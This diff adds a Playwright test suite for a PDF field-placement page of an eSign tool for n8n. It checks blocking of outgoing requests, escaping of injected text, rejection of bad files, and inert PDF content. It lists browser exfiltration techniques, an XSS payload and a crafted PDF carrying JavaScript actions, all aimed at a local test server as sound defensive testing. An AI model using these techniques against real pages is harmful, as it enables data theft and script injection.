@@ -1,0 +1,231 @@
+import { readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import type { Browser, Page } from 'playwright-core';
+import { openBrowser } from '../editor/support/browser';
+import { DESKTOP, PlaceFieldsPage, serveFolder } from './support/placeFieldsPage';
+import { pagesOf } from './support/testPdf';
+
+const fixture = (name: string) => readFileSync(join(__dirname, '../../fixtures', name));
+
+let browser: Browser;
+let place: PlaceFieldsPage;
+beforeAll(async () => {
+	browser = await openBrowser();
+});
+afterAll(() => browser?.close());
+beforeEach(async () => {
+	place = await PlaceFieldsPage.open(browser, DESKTOP);
+});
+afterEach(() => place?.close());
+
+const field = (changes: object = {}) => ({
+	...{ type: 'TEXT', pageNumber: 1, xNorm: 0.1, yNorm: 0.1, widthNorm: 0.02, heightNorm: 0.01 },
+	...changes,
+});
+
+describe('Nothing leaves the browser', () => {
+	/** Every way of a script to send something without leaving the page. */
+	const WAYS = [
+		'fetch(url)',
+		'navigator.sendBeacon(url, "secret")',
+		'new Image().src = url',
+		'new WebSocket(url.replace("http", "ws"))',
+		'new EventSource(url)',
+		'document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: url }))',
+		'document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: url }))',
+		'document.body.append(Object.assign(document.createElement("iframe"), { src: url }))',
+		'new FontFace("leak", `url(${url})`).load()',
+		'import(url)',
+		'(() => { const form = document.body.appendChild(document.createElement("form")); form.action = url; form.target = "_blank"; form.submit(); })()',
+		'new Worker(URL.createObjectURL(new Blob([`fetch("${url}")`])))',
+	];
+
+	/** A web server that somebody else runs, and what it has been asked for. */
+	async function listen() {
+		const received: string[] = [];
+		const server = createServer((request, response) => {
+			received.push(request.url ?? '');
+			response.writeHead(200, { 'content-type': 'text/html' }).end('<title>Elsewhere</title>');
+		});
+		await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+		const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
+		const close = () => {
+			server.closeAllConnections();
+			server.close();
+		};
+		return { received, url, close };
+	}
+
+	/** Tries a way on a page, and gives what it sends the time to arrive. */
+	async function attempt(page: Page, way: string, url: string): Promise<void> {
+		const script = `(async () => { const url = ${JSON.stringify(url)}; try { await (${way}); } catch {} })()`;
+		await page.evaluate(script);
+		await page.evaluate('new Promise((resolve) => setTimeout(resolve, 300))');
+	}
+
+	// From a host, where nothing but the policy of the page stands in the way: from disk the browser has its own doubts.
+	it.each(WAYS)('not by %s', async (way) => {
+		const [host, elsewhere] = [await serveFolder(), await listen()];
+		try {
+			await place.page.goto(host.url);
+			await attempt(place.page, way, `${elsewhere.url}leak`);
+			expect(elsewhere.received).toEqual([]);
+
+			const unguarded = await place.context.newPage();
+			await unguarded.goto(elsewhere.url);
+			await attempt(unguarded, way, `${elsewhere.url}leak`);
+			expect(elsewhere.received.join()).toContain('/leak');
+		} finally {
+			host.close();
+			elsewhere.close();
+		}
+	});
+});
+
+describe('Text is never taken for markup', () => {
+	const EVIL = '"><img src=x onerror="document.title=1"><script>document.title=2</script>';
+
+	it('in names, emails, file names and JSON', async () => {
+		await place.openPdf(await pagesOf(2), `${EVIL.replaceAll('/', '')}.pdf`);
+		await place.page.getByLabel('Name of recipient 1').fill(EVIL);
+		await place.draw(1, [0.1, 0.2, 0.4, 0.3]);
+		const options = { placeholderText: EVIL, helpText: EVIL, value: EVIL, dropdownOptions: [EVIL] };
+		await place.read(JSON.stringify([field({ recipient: EVIL, ...options })]));
+		await place.read(JSON.stringify([field({ [EVIL]: 1, type: EVIL })]));
+		await place.read(EVIL);
+		expect(await place.page.title()).toBe('Place Fields: eSign for n8n');
+		expect(await place.page.locator('img, body script').count()).toBe(0);
+		expect(place.complaints).toEqual([]);
+		expect(place.foreignRequests()).toEqual([]);
+	});
+
+	it('even if a script of the page tried to', async () => {
+		const refused = await place.page.evaluate(
+			'(() => { try { document.body.innerHTML = "<b>x</b>"; return false; } catch (error) { return error instanceof TypeError; } })()',
+		);
+		expect(refused).toBe(true);
+	});
+});
+
+describe('A file that cannot be opened', () => {
+	it.each([
+		['no PDF', 'notes.pdf', Buffer.from('Dear reader, this is no PDF.'), 'This is not a PDF, or it is damaged.'],
+		['an empty file', 'empty.pdf', Buffer.alloc(0), 'This is not a PDF, or it is damaged.'],
+		['a picture', 'picture.pdf', fixture('picture.png'), 'This is not a PDF, or it is damaged.'],
+		[
+			'a protected file',
+			'locked.pdf',
+			fixture('encrypted-user.pdf'),
+			'The file is protected by a password. The service does not take such files.',
+		],
+		[
+			'a file that the service would refuse',
+			'large.pdf',
+			Buffer.alloc(25 * 1024 * 1024 + 1, '%'),
+			'The file has 25.0 MB. The service takes 25 MB at most.',
+		],
+	])('%s, says why and leaves what is open', async (_what, name, bytes, message) => {
+		await place.openPdf(await pagesOf(2), 'good.pdf');
+		await place.draw(1, [0.1, 0.2, 0.4, 0.3]);
+		await place.page.setInputFiles('#open', { name, mimeType: 'application/pdf', buffer: bytes });
+		await place.page.locator('#open-problem:visible').waitFor();
+		expect(await place.page.locator('#open-problem').textContent()).toBe(`${name}: ${message}`);
+		expect(await place.page.locator('.sheet').count()).toBe(2);
+		expect(await place.entries()).toHaveLength(1);
+		await place.openPdf(await pagesOf(3), 'better.pdf');
+		expect(await place.page.locator('#open-problem').isVisible()).toBe(false);
+		expect(place.complaints).toEqual([]);
+	});
+});
+
+describe('Files of every make are shown', () => {
+	it.each([
+		...['contract.pdf', 'libreoffice.pdf', 'ghostscript.pdf', 'scan.pdf', 'linearized.pdf', 'object-streams.pdf'],
+		...['turned-and-cropped.pdf', 'encrypted-owner.pdf'],
+	])('%s', async (name) => {
+		await place.openPdf(fixture(name), name);
+		const canvas = place.sheet(1).locator('canvas');
+		const ink = await canvas.evaluate((element) => {
+			interface Context {
+				getImageData(x: number, y: number, width: number, height: number): { data: Uint8ClampedArray };
+			}
+			const drawn = element as unknown as { width: number; height: number; getContext(kind: '2d'): Context };
+			const { data } = drawn.getContext('2d').getImageData(0, 0, drawn.width, drawn.height);
+			return data.filter((value, at) => at % 4 === 0 && value < 128).length;
+		});
+		expect(ink).toBeGreaterThan(500);
+		expect(place.complaints).toEqual([]);
+	});
+});
+
+describe('What a file can carry does nothing here', () => {
+	it('scripts, links and attachments in the PDF stay in it', async () => {
+		const script = 'app.alert(1); this.submitForm("http://127.0.0.1:9/"); app.launchURL("http://127.0.0.1:9/")';
+		const objects = [
+			`<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replace(/[()]/g, '\\$&')}) >> >>`,
+			'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+			'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Annots [4 0 R] /AA << /O << /S /URI /URI (http://127.0.0.1:9/) >> >> >>',
+			'<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (javascript:document.title=3) >> >>',
+		];
+		const body = objects.map((text, index) => `${index + 1} 0 obj\n${text}\nendobj\n`).join('');
+		await place.openPdf(Buffer.from(`%PDF-1.7\n${body}trailer << /Root 1 0 R /Size 5 >>\n%%EOF`), 'scripts.pdf');
+		const [x, y] = await place.at(1, 0.5, 0.5);
+		await place.page.mouse.click(x, y);
+		expect(await place.page.title()).toBe('Place Fields: eSign for n8n');
+		expect(place.foreignRequests()).toEqual([]);
+		expect(place.context.pages()).toHaveLength(1);
+	});
+
+	it.each([
+		['a strip', [2, 14_000]],
+		['a banner', [14_000, 2]],
+		['a wall', [14_400, 14_400]],
+		['a stamp', [3, 3]],
+	] as const)('fields are placed on %s', async (_what, [width, height]) => {
+		await place.openPdf(await pagesOf(1, [width, height]), 'odd.pdf');
+		await place.page.getByRole('button', { name: 'Add Field' }).click();
+		const [entry] = await place.entries();
+		expect(entry!.xNorm + entry!.widthNorm).toBeLessThanOrEqual(1);
+		expect(entry!.yNorm + entry!.heightNorm).toBeLessThanOrEqual(1);
+		expect(place.complaints).toEqual([]);
+	});
+});
+
+describe('Much of it', () => {
+	it('200 pages and 500 fields stay usable, and the next field is refused', async () => {
+		await place.openPdf(await pagesOf(200), 'long.pdf');
+		const grid = Array.from({ length: 500 }, (_x, index) =>
+			field({
+				...{ pageNumber: 1 + (index % 5) * 49, recipient: 1 + (index % 10) },
+				...{ xNorm: 0.05 + 0.08 * (Math.floor(index / 5) % 10), yNorm: 0.05 + 0.08 * Math.floor(index / 50) },
+			}),
+		);
+		await place.read(JSON.stringify(grid));
+		expect(await place.entries()).toHaveLength(500);
+		expect(await place.page.locator('.box').count()).toBe(500);
+		await place.drawn(197);
+		await place.draw(197, [0.9, 0.9, 0.95, 0.95]);
+		expect(await place.entries()).toHaveLength(500);
+		expect(await place.status()).toBe('There are 500 fields, as many as a document can have.');
+		const last = place.sheet(197).locator('.box').last();
+		await last.focus();
+		await place.page.keyboard.press('ArrowRight');
+		expect((await place.entries()).filter(({ xNorm }, index) => xNorm !== grid[index]!.xNorm)).toHaveLength(1);
+		// Pages that are far away are not kept as pictures.
+		expect(await place.page.locator('canvas').count()).toBeLessThan(12);
+		expect(place.complaints).toEqual([]);
+	});
+
+	it('a file that is opened while another is still being read takes its place', async () => {
+		const files = [await pagesOf(200), await pagesOf(2)].map((buffer, index) => ({
+			...{ name: `${index}.pdf`, mimeType: 'application/pdf', buffer },
+		}));
+		await place.page.setInputFiles('#open', files[0]!);
+		await place.page.setInputFiles('#open', files[1]!);
+		await place.page.getByText('1.pdf is open.').waitFor();
+		await place.drawn(1);
+		expect(await place.page.locator('#files li').allTextContents()).toEqual(['1.pdf: pages 1 to 2']);
+	});
+});
